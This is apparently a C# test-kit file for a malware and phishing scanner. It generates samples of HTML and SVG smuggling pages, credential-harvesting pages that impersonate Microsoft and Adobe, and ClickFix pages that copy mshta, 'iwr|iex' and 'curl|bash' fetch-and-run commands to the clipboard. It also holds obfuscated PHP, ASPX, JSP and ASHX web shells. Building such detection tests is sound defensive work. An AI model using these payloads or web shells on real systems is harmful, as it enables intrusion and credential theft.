namespace ScanHost.TestKit.HeldOut.Third;

/// <summary>Pages that bring a file along.</summary>
public sealed class CarryingPages : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var zip = InertFiles.Zip(("Scan_2291.js", Utf8("var w=new ActiveXObject('WScript.Shell');w.Run('cmd /c curl http://192.0.2.201/a -o %tmp%\\\\a.dll & rundll32 %tmp%\\\\a.dll,#1',0)")));
        var keyed = string.Join(",", zip.Select(value => value ^ 0x5A));
        return
        [
            ("Payment_Advice.html", Utf8($"<html><head><title>Adobe Acrobat</title></head><body><p>The file is not displayed correctly. Use local downloaded file. Document password: 7743</p><script>var q=[{keyed}];for(var i=0;i<q.length;i++)q[i]^=90;var f=new File([new Uint8Array(q)],'Scan_2291.zip',{{type:'application/zip'}});var l=document.createElement('a');l.href=window.URL.createObjectURL(f);l.download=f.name;document.body.appendChild(l);l.click();</script></body></html>")),
            ("RemittanceCopy.htm", Utf8($"<html><body onload=\"document.getElementById('dl').click()\"><h3>Loading your document...</h3><a id=\"dl\" style=\"display:none\" href=\"data:application/zip;base64,{Convert.ToBase64String(zip)}\" download=\"RemittanceCopy.zip\">.</a></body></html>")),
            ("Contract.html", Utf8($"<!DOCTYPE html><html><body><embed src=\"data:image/svg+xml;base64,{Base64($"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\"><script>const t='{Convert.ToBase64String(zip)}';fetch('data:application/octet-stream;base64,'+t).then(r=>r.blob()).then(b=>{{const a=parent.document.createElement('a');a.href=URL.createObjectURL(b);a.download='Contract.zip';a.click()}})</script></svg>")}\"></body></html>")),
        ];
    }
}

/// <summary>Pages that want a password.</summary>
public sealed class AskingPages : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var sign = "<html><head><title>Sign in to your account</title><link rel='shortcut icon' href='https://aadcdn.msauth.net/shared/1.0/content/images/favicon_a_eupayfgghqiai7k9sol6lg2.ico'></head><body><img src='https://aadcdn.msauth.net/shared/1.0/content/images/microsoft_logo.svg'><div>ann@firm.invalid</div><form id=f><input type=hidden name=ai value='ann@firm.invalid'><input type=password name=pr id=pr placeholder=Password><div id=msg style='display:none;color:red'>Your account or password is incorrect.</div><input type=submit value='Sign in'></form><script>var count=0;$('#f').submit(function(e){e.preventDefault();$.ajax({url:'https://cpanel-host.invalid/wp-includes/next.php',type:'POST',data:{ai:$('#ai').val(),pr:$('#pr').val()},complete:function(){if(++count>=2)location.replace('https://outlook.office.com')}})})</script></body></html>";
        return
        [
            ("ATT00917.htm", Utf8(sign)),
            ("Secure_Message.shtml", Utf8($"<script>document.write(decodeURIComponent(escape(window.atob('{Base64(sign)}'))));</script>")),
            ("Invoice 88120.pdf.html", Utf8("<html><head><title>Adobe Document Cloud</title></head><body style=\"background-image:url('https://i.imgur.com/b1urr3d.png')\"><div class=modal><b>Confirm your identity to view this document</b><form method=post action=\"https://submit-form.com/Xa81\"><input type=email name=email value=\"bob@shop.invalid\" readonly><input type=password name=password placeholder=\"Email password\" required><button>View document</button></form></div></body></html>")),
            ("Voice_Note_0317.html", Utf8($"<html><head><meta name=robots content=noindex></head><body><script>var mail='ann@firm.invalid';var p=['{Base64("https://")}','{Base64("verify-portal.invalid/o365/")}'];setTimeout(function(){{window.location.href=atob(p[0])+atob(p[1])+'#'+btoa(mail)}},900);</script></body></html>")),
            ("webmail_quota.html", Utf8("<html><head><title>Webmail | Mailbox quota exceeded</title></head><body><form action=\"http://203.0.113.40/~upd/cp.php\" method=POST>Email <input name=u value=\"ann@firm.invalid\">Password <input type=password name=p>Confirm <input type=password name=p2><input type=submit value=\"Upgrade quota\"></form></body></html>")),
        ];
    }
}

/// <summary>Pages that have their visitor do the work.</summary>
public sealed class InstructingPages : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("verify.html", Utf8("<html><head><title>Just a moment...</title></head><body><h1>Verify you are human</h1><button id=b>I'm not a robot</button><div id=s hidden>To better prove you are not a robot, please:<ol><li>Press &amp; hold the Windows Key <b>+ R</b>.<li>In the verification window, press <b>Ctrl + V</b>.<li>Press <b>Enter</b> on your keyboard to finish.</ol></div><script>b.onclick=function(){const t='mshta https://cf-check.invalid/v.mp4 # I am not a robot: Cloudflare Verification ID: 7712';const a=document.createElement('textarea');a.value=t;document.body.append(a);a.select();document.execCommand('copy');a.remove();s.hidden=false}</script></body></html>")),
        ("shared-file.html", Utf8("<html><body><h2>HRPolicy.docx was shared with you</h2><p>To access the file, copy the path, open File Explorer, select the address bar (CTRL + L), paste the file path and press Enter.</p><button onclick=\"copyIt()\">Open File Explorer</button><input type=file id=fi style=display:none><script>function copyIt(){navigator.clipboard.writeText('powershell.exe -c iwr https://files-hr.invalid/p.txt|iex' + ' '.repeat(120) + '# C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx');document.getElementById('fi').click()}</script></body></html>")),
        ("mac-check.html", Utf8($"<html><body><h1>Unusual web traffic detected</h1><p>Open Spotlight, type Terminal, press Return. Paste the text with &#8984; + V and press Return.</p><button onclick=\"navigator.clipboard.writeText(atob('{Base64($"echo \"{Base64("curl -s http://192.0.2.202/d/r1 | nohup bash &")}\" | base64 -d | bash")}'))\">Copy</button></body></html>")),
    ];
}

/// <summary>Drawings that are more.</summary>
public sealed class DrawingsThatAct : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Play_VM-0318.svg", Utf8($"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"><script type=\"application/ecmascript\"><![CDATA[const h='{Convert.ToHexString([.. "window.location.href='https://login-vm.invalid/?e='+u"u8.ToArray().Select(value => (byte)(value ^ 0x33))])}';const u='ann@firm.invalid';let o='';for(let i=0;i<h.length;i+=2)o+=String.fromCharCode(parseInt(h.substr(i,2),16)^51);(0,eval)(o);]]></script></svg>")),
        ("Invoice.svg", Utf8($"<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 800 600\"><foreignObject width=\"100%\" height=\"100%\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" style=\"width:100%;height:100%;border:0\" src=\"data:text/html;base64,{Base64("<form action='https://collect.invalid/r.php' method=post>Email<input name=e>Password<input type=password name=p></form>")}\"/></foreignObject></svg>")),
        ("Fiscalia_documento.svg", Utf8($"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 900 700\"><text x=\"10\" y=\"20\">Descargando documentos oficiales...</text><rect width=\"900\" height=\"20\" onclick=\"go()\"/><script><![CDATA[function go(){{var b=atob('{Convert.ToBase64String(InertFiles.Zip(("02 DEMANDA.exe", InertFiles.Pe(4096))))}');var n=new Uint8Array(b.length);for(var i=0;i<b.length;i++)n[i]=b.charCodeAt(i);var u=URL.createObjectURL(new Blob([n],{{type:'application/zip'}}));var a=document.createElementNS('http://www.w3.org/1999/xhtml','a');a.href=u;a.download='DEMANDA.zip';a.click();}}]]></script></svg>")),
    ];
}

/// <summary>Server-side scripts that obey a visitor.</summary>
public sealed class ObedientServers : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("wp-cache.php", Utf8("<?php $f='as'.'se'.'rt'; $k=\"_PO\".\"ST\"; @$f(${$k}['q8']); ?>")),
        ("class-feed.php", Utf8("<?php\nerror_reporting(0);\n$x=$_COOKIE;($x && isset($x[12]))?(($u=$x[12].$x[20])&&($l=$u($x[31].$x[44]))&&($m=$l($x[51]))&&@eval($m)):$x;\n")),
        ("upload.php", Utf8("GIF89a\n<?php if(md5($_GET['k'])=='21232f297a57a5a743894a0e4a801fc3'){ if(isset($_FILES['f'])) move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo shell_exec($_GET['c'].' 2>&1'); } ?>\n")),
        ("error.aspx", Utf8("<%@ Page Language=\"C#\" %><%@ Import Namespace=\"System.Diagnostics\" %><script runat=\"server\">void Page_Load(object s,EventArgs e){var p=new Process();p.StartInfo=new ProcessStartInfo(\"cmd.exe\",\"/c \"+Request.Headers[\"X-Cmd\"]){RedirectStandardOutput=true,UseShellExecute=false};p.Start();Response.Write(p.StandardOutput.ReadToEnd());}</script>")),
        ("help.jsp", Utf8("<%@ page import=\"java.util.*,java.io.*\"%><%! class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><%if(request.getMethod().equals(\"POST\")){String k=\"e45e329feb5d925b\";javax.crypto.Cipher c=javax.crypto.Cipher.getInstance(\"AES\");c.init(2,new javax.crypto.spec.SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>")),
        ("shell.ashx", Utf8("<%@ WebHandler Language=\"JScript\" Class=\"H\"%>import System;import System.Web;public class H implements IHttpHandler{function IHttpHandler.ProcessRequest(c:HttpContext){c.Response.Write(eval(c.Request.Form['p'],'unsafe'));}function get IHttpHandler.IsReusable():Boolean{return true}}")),
    ];
}
